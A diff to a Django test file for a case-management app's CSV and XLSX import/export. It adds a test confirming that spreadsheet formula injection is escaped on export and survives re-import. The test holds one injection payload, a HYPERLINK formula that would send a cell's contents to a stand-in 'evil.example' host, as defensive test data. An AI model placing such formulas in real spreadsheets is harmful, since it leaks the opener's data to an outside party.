@@ -4,7 +4,9 @@ from __future__ import annotations
 
 import csv
 import datetime as dt
+import io
 from pathlib import Path
+from typing import Any
 
 import pytest
 from django.core.management import call_command
@@ -12,22 +14,23 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
 from tsunagu.cases import services
-from tsunagu.cases.models import Case
+from tsunagu.cases.models import Case, Event, Person
 from tsunagu.core.models import AuditEvent
+from tsunagu.core.spreadsheet import csv_escape, csv_unescape_row
 from tsunagu.interchange import format as fmt
 from tsunagu.interchange.exporter import ExportRefused, analyst_detail, export
 from tsunagu.interchange.generate import generate
 from tsunagu.interchange.importer import import_files
 from tsunagu.testing import assert_no_markers
 from tsunagu.testing.builders import OFFENDER_NAME, VICTIM_ADDRESS, VICTIM_MARKERS
-from tsunagu.testing.files import CASES, EVENTS, write_set
+from tsunagu.testing.files import CASES, CASES_HEADER, EVENTS, write_set
 
 pytestmark = pytest.mark.django_db
 
 
 def read_rows(path: Path) -> list[tuple[str, ...]]:
     with path.open(encoding="utf-8-sig", newline="") as fh:
-        return [tuple(row) for row in csv.reader(fh)]
+        return [tuple(csv_unescape_row(row)) for row in csv.reader(fh)]
 
 
 def files_of(folder: Path) -> dict[str, bytes]:
@@ -103,7 +106,9 @@ def test_any_free_text_survives_export_and_import(tmp_path_factory, events, ref)
     opened = dt.date(2016, 1, 1)
     rows = [(ref, "13", opened.isoformat(), "consultation", "")]
     rows += [(ref, "13", (opened + dt.timedelta(days=d)).isoformat(), t, x) for d, t, x in events]
-    write_set(folder / "in", [(ref, "13", "", opened.isoformat(), "other")], rows)
+    # The input is written as an export writes it (a leading apostrophe escaped).
+    escaped = [tuple(csv_escape(c) for c in r) for r in rows]
+    write_set(folder / "in", [(ref, "13", "", opened.isoformat(), "other")], escaped)
     summary = import_files(folder / "in")
     assert summary.ok, summary.errors
     export(folder / "a")
@@ -226,9 +231,10 @@ def test_export_query_count_does_not_grow_with_cases(
 ):
     for i in range(12):
         make_case(officer_tokyo, ref=f"Q-{i}")
-    with django_assert_max_num_queries(8):
+    # +2 over the export's own queries: the audit chain's head is locked and moved
+    with django_assert_max_num_queries(10):
         export(tmp_path / "a")
-    with django_assert_max_num_queries(8):
+    with django_assert_max_num_queries(10):
         export(tmp_path / "b", include_personal=True)
 
 
@@ -294,3 +300,36 @@ def test_a_bad_extra_victims_cell_is_a_bad_row(tmp_path):
         (3, "extra_victims"),
         (4, "extra_victims"),
     ]
+
+
+def test_formula_text_is_escaped_in_csv_typed_text_in_xlsx_and_survives_import(tmp_path):
+    from openpyxl import load_workbook
+
+    from tsunagu.core.spreadsheet import FORMULA_START
+
+    evil = '=HYPERLINK("http://evil.example/?"&K2,"click")'
+    header = (*CASES_HEADER, "victim_name", "victim_workplace", "offender_name")
+    cases = [("T-1", "13", "新宿", "2016-05-10", "other", "+81 3", evil, "@SUM(1)")]
+    events = [("T-1", "13", "2016-05-10", "consultation", "-1 と 'quoted")]
+    write_set(tmp_path / "in", cases, events, cases_header=header)
+    assert import_files(tmp_path / "in").ok
+    export(tmp_path / "a", include_personal=True)
+    export(tmp_path / "book.xlsx", file_format="xlsx", include_personal=True)
+    for name in ("cases.csv", "events.csv"):
+        text = (tmp_path / "a" / name).read_text(encoding="utf-8-sig")
+        texts = [c for row in csv.reader(io.StringIO(text)) for c in row]
+        assert not any(c.startswith(FORMULA_START) for c in texts)
+    assert "'=HYPERLINK" in (tmp_path / "a" / "cases.csv").read_text(encoding="utf-8-sig")
+    book = load_workbook(tmp_path / "book.xlsx")
+    cells: list[Any] = [
+        c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value
+    ]
+    assert evil in [c.value for c in cells]
+    assert all(c.data_type == "s" for c in cells)
+    for source in (tmp_path / "a", tmp_path / "book.xlsx"):
+        Case.objects.all().delete()
+        assert import_files(source).ok
+        victim = Person.objects.get(role="victim")
+        assert (victim.name, victim.workplace) == ("+81 3", evil)
+        assert Person.objects.get(role="offender").name == "@SUM(1)"
+        assert Event.objects.get().detail == "-1 と 'quoted"
